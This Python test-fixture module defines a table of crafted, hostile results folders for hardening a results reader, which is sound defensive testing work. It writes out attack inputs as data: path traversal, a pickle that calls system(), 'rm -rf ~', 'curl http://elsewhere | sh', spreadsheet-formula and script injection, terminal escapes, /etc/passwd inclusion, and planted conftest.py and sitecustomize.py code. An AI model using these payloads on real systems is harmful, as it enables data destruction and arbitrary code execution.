"""Results folders that somebody crafted: each entry of `CRAFTED` turns a copy of an honest folder into one.

An entry takes the results folder and `outside`, a folder beside it that nothing may read into, write to or delete from.
A further kind is one more entry in the table.
"""

from __future__ import annotations

import json
from pathlib import Path

import pyarrow as pa
from forging import (
    STUDY,
    Craft,
    a_socket,
    bomb,
    circle,
    evil_epochs,
    facts_of,
    false_replacement,
    link,
    only_batch,
    pipe,
    renamed_arm,
    replaced,
    text,
    trials_of,
    with_header,
    with_plan,
    with_planned,
    with_record,
    with_values,
    without_field,
)

A_TRIAL = sorted(trials_of(Path(__file__).parent / "results_of_5c7b3a1")["trial_id"].to_pylist())[0]
DEEP = "[" * 100_000
EXECUTED = "import pathlib; pathlib.Path('OUTSIDE/executed').touch()"
PICKLE = b"cposix\nsystem\n(S'touch outside/executed'\ntR."

CRAFTED: dict[str, Craft] = {
    # names in headers
    "epochs named outside": with_header(epochs=lambda r, o: f"../../{o.name}/marker"),
    "epochs named by an absolute path": with_header(epochs=lambda r, o: str(o / "marker")),
    "epochs of another batch": with_header(epochs=f"20200101T000000000000-abcdef.{'0' * 32}.parquet"),
    "epochs no text": with_header(epochs=["a"]),
    "epochs named with a newline": with_header(epochs="a\nb"),
    "replaces a path": with_header(replaces=["../../outside/marker"]),
    "replaces no list": with_header(replaces={"a": 1}),
    "replaces itself": lambda r, o: with_header(replaces=[facts_of(trials_of(r))["batch"]])(r, o),
    "replaces what it does not hold": false_replacement,
    "two that replace each other": circle,
    "a header of nested lists": with_header(epochs=json.loads("[" * 400 + "]" * 400)),
    "a schema version of infinity": with_header(schema_version=1e308),
    "a table of another name": with_header(table="../trials"),
    # values in rows
    "a trial_id that leaves the folder": with_values("trial_id", lambda o: f"../../{o.name}/planted"),
    "an absolute trial_id": with_values("trial_id", lambda o: str(o / "planted")),
    "an empty trial_id": with_values("trial_id", ""),
    "no trial_id": with_values("trial_id", None),
    "a state that is none": with_values("state", "excellent"),
    "no state": with_values("state", None),
    "a failure kind that is none": with_values("failure_kind", "<script>"),
    "a seed block that is none": with_values("seed_block", "both"),
    "an attempt of zero": with_values("attempt", 0),
    "an attempt beyond all": with_values("attempt", 2**62),
    "no attempt": with_values("attempt", None),
    "a config that is no JSON": with_values("config", "{"),
    "a config that is a list": with_values("config", "[1]"),
    "a config nested without end": with_values("config", DEEP),
    "a config of objects": with_values("config", '{"lr": {"a": 1}}'),
    "versions that are none": with_values("versions", "[]"),
    "stages that are none": with_values("stages", '[{"name": 1}]'),
    "a moment in the year 200,000": with_values("started_at", 2**62, pa.timestamp("us", tz="UTC")),
    "a seed as text": with_values("seed", "1", pa.string()),
    "a metric as text": with_values("metric.nmi", "high", pa.string()),
    "a method with a path for a name": with_values("method", "../../outside/evil"),
    "a dataset with a path for a name": with_values("dataset", "../../outside/evil:subset=2"),
    "a terminal's commands in a method's name": with_values("method", "\x1b[2J\x1b]0;owned\x07"),
    "text that is no UTF-8": lambda r, o: only_batch(
        r, replaced(trials_of(r), "device", pa.array([b"\xff\xfe"] * len(trials_of(r))).view(pa.string()))
    ),
    "a column twice": lambda r, o: only_batch(r, trials_of(r).append_column("seed", trials_of(r)["seed"])),
    "a column named by a terminal's commands": lambda r, o: only_batch(
        r, trials_of(r).append_column("metric.\x1b[2J\n", trials_of(r)["cost.seconds"])
    ),
    "a metric with a path for a name": lambda r, o: only_batch(
        r, trials_of(r).append_column("metric.../../outside/x", trials_of(r)["metric.nmi"])
    ),
    "an error of a million characters": with_values("error", "=1+1\n" * 200_000),
    "rows that the bytes cannot hold": bomb,
    "epochs with a foreign trial_id": evil_epochs(
        lambda rows: replaced(rows, "trial_id", pa.array(["../../outside/x"] * len(rows)))
    ),
    "epochs without numbers": evil_epochs(lambda rows: replaced(rows, "epoch", pa.array(["one"] * len(rows)))),
    "epochs as a list": evil_epochs(lambda rows: replaced(rows, "metric.nmi", pa.array([[0.5]] * len(rows)))),
    # records and plans
    "a record that is null": with_plan(lambda record, plan, _: (None, plan)),
    "a record that is a list": with_plan(lambda record, plan, _: ([1], plan)),
    "a record without arms": without_field("arms"),
    "a record without a metric": without_field("metric"),
    "a record without a tier": without_field("tier"),
    "a record without a command": without_field("command"),
    "a question of markup": with_record(question="<script>alert(1)</script> $\\frac$ =1+1"),
    "a question of a terminal's commands": with_record(question="\x1b[2J\x1b]0;owned\x07"),
    "a command that deletes": with_record(command="orchestrate run walks; rm -rf ~"),
    "another program's command": with_record(command="curl http://elsewhere | sh"),
    "a metric that is none": with_record(metric="../../outside/metric"),
    "a metric of markup": with_record(metric="=cmd|' /C calc'!A0"),
    "an alpha of two": with_record(alpha=2.0),
    "a margin of minus one": with_record(margin=-1),
    "seeds beyond all": with_record(seeds={"block": "confirm", "seeds": [10**12], "looks": None, "planned": [10**12]}),
    "looks that are none": with_record(looks_taken=[1, "x"]),
    "chance that is text": with_record(chance={"dots": "high"}),
    "no chance": with_record(chance={}),
    "a search without a history": with_record(searches=[{}]),
    "a dataset of another name": with_record(datasets=["../../outside"]),
    "runs of text": with_record(runs=[{"trials": "many"}]),
    "an arm named as a formula": renamed_arm('=HYPERLINK("http://elsewhere")'),
    "an arm named by a path": renamed_arm("../../../outside/arm"),
    "an arm named by two dots": renamed_arm(".."),
    "an arm of markup": renamed_arm("<img src=x onerror=alert(1)> [a](javascript:b) $\\frac$"),
    "an arm of LaTeX": renamed_arm("\\input{/etc/passwd} $x$ %"),
    "planned ids that leave the folder": with_planned("trial_id", lambda o: f"../../{o.name}/planted"),
    "planned phases that are none": with_planned("phase", "party"),
    "planned arms that are none": with_planned("arm", "nobody"),
    "planned seeds without numbers": with_planned("seed", "one"),
    "a plan without columns": with_plan(lambda record, plan, _: (record, plan.select(["trial_id"]))),
    "a plan without rows": with_plan(lambda record, plan, _: (record, plan.slice(0, 0))),
    # links
    "a link for the lock": link("lock", to="marker"),
    "a link for trials": link("trials"),
    "a link for epochs": link("epochs"),
    "a link for studies": link("studies"),
    "a link for the study": link("studies", STUDY),
    "a link for quarantine": link("quarantine"),
    "a link for checkpoints": link("checkpoints"),
    "a link for a bundle's checkpoint": link("checkpoints", "a" * 20),
    "a link for logs": link("logs"),
    "a link for profiles": link("profiles"),
    "a link for artifacts": link("artifacts"),
    "a link for report.html": link("studies", STUDY, "report.html", to="marker"),
    "a link for report.json": link("studies", STUDY, "report.json", to="marker"),
    "a link for tables": link("studies", STUDY, "tables"),
    "a link for figures": link("studies", STUDY, "figures"),
    "a link for a figure": link("studies", STUDY, "figures", "arms.png", to="marker"),
    "a link for plan.parquet": link("studies", STUDY, "plan.parquet", to="marker"),
    "a link for looks.jsonl": link("studies", STUDY, "looks.jsonl", to="marker"),
    "a link for bundles.json": link("studies", STUDY, "bundles.json", to="marker"),
    "a link for a temporary file": link("studies", STUDY, ".plan.parquet.tmp", to="marker"),
    "a link for a log": link("logs", "a" * 20 + ".log", to="marker"),
    "a link under a batch's name": link("trials", f"20200101T000000000000-abcdef.{'0' * 32}.parquet", to="marker"),
    "a link under a temporary name": link("trials", ".x.tmp", to="marker"),
    # pipes, sockets, and texts in the place of files
    "a pipe for the lock": pipe("lock"),
    "a pipe for plan.parquet": pipe("studies", STUDY, "plan.parquet"),
    "a pipe for report.json": pipe("studies", STUDY, "report.json"),
    "a pipe for looks.jsonl": pipe("studies", STUDY, "looks.jsonl"),
    "a pipe under a batch's name": pipe("trials", f"20200101T000000000000-abcdef.{'0' * 32}.parquet"),
    "a socket under a batch's name": a_socket,
    "a lock of brackets": text("lock", of="[" * 4096),
    "a lock of another's claim": text("lock", of='{"pid": "\\u001b[2J", "host": 7, "started_at": [], "command": {}}'),
    "report.json is null": text("studies", STUDY, "report.json", of="null"),
    "report.json of brackets": text("studies", STUDY, "report.json", of=DEEP),
    "looks of brackets": text("studies", STUDY, "looks.jsonl", of=DEEP + "\n"),
    "looks of texts": text("studies", STUDY, "looks.jsonl", of='{"at": 1, "n_seeds": "many"}\n'),
    "bundle limits of text": text("studies", STUDY, "bundles.json", of='{"limits": {"a": "many", "b": 1e400}}'),
    "a study named with a space": text("studies", "my study", "plan.parquet", of="x"),
    "a study named with a newline": text("studies", "my\nstudy", "plan.parquet", of="x"),
    "a file for the study": text("studies", "other", of="x"),
    "a checkpoint that is a pickle": text("checkpoints", "a" * 20, "state.safetensors", of=PICKLE),
    "members of brackets": text("checkpoints", "a" * 20, "members.json", of=DEEP),
    "Python beside the ledger": text("conftest.py", of=EXECUTED),
    "a sitecustomize": text("sitecustomize.py", of=EXECUTED),
    "a study file in the folder": text("studies", STUDY, "walks.py", of=EXECUTED),
    "methods in the folder": text("methods", "walk.py", of=EXECUTED),
    "a log of a terminal's commands": text(
        "logs", "a" * 20 + ".log", of=b"=== now | \x1b[2J | " + b"a" * 20 + b"\n\xff\x00\n"
    ),
    # what trials leave behind besides rows: kept files, what was retracted and spent, where data lay
    "a link for kept": link("kept"),
    "a link for kept files": link("kept", "files"),
    "a link for the names of kept files": link("kept", f"{A_TRIAL}.json", to="marker"),
    "a link for a kept file": lambda r, o: (
        link("kept", "files", f"{'0' * 32}.bin", to="marker")(r, o),
        text("kept", f"{A_TRIAL}.json", of=f'{{"weights": {{"file": "{"0" * 32}.bin", "bytes": 3}}}}')(r, o),
    ),
    "a kept file that lies outside": text(
        "kept", f"{A_TRIAL}.json", of='{"weights": {"file": "../../../outside/marker", "bytes": 3}}'
    ),
    "a kept file by an absolute path": text(
        "kept", f"{A_TRIAL}.json", of='{"weights": {"file": "OUTSIDE/marker", "bytes": 1e400}}'
    ),
    "kept weights that are a pickle": lambda r, o: (
        text("kept", "files", f"{'1' * 32}.safetensors", of=PICKLE)(r, o),
        text("kept", f"{A_TRIAL}.json", of=f'{{"weights": {{"file": "{"1" * 32}.safetensors", "bytes": 3}}}}')(r, o),
    ),
    "names of kept files of brackets": text("kept", f"{A_TRIAL}.json", of=DEEP),
    "a pipe for the names of kept files": pipe("kept", f"{A_TRIAL}.json"),
    "a link for what was retracted": link("retracted.jsonl", to="marker"),
    "a pipe for what was retracted": pipe("retracted.jsonl"),
    "retracted ids that leave the folder": text("retracted.jsonl", of='{"trial_id": "../../outside/x", "up_to": 1}\n'),
    "retracted for a reason of markup": text(
        "retracted.jsonl",
        of=f'{{"trial_id": "{A_TRIAL}", "up_to": 1, "reason": "<script>\\u001b[2J=1+1", "at": "2026-01-01"}}\n',
    ),
    "a link for what was spent": link("studies", STUDY, "spending.jsonl", to="marker"),
    "spending of brackets": text("studies", STUDY, "spending.jsonl", of=DEEP + "\n"),
    "spending of texts": text("studies", STUDY, "spending.jsonl", of='{"at": [], "seconds": "many", "process": {}}\n'),
    "data that lie outside": with_record(data_files={"dots": "own_file:file=../../outside/marker"}),
    "data of a program's name": with_record(data_files={"digits": "own_file:file=../outside/marker", "": ":"}),
    "data that are no text": with_record(data_files={"dots": 7}),
    "a source of markup outside": with_record(source={"path": "../../outside/<script>.py", "digest": "x" * 20}),
}
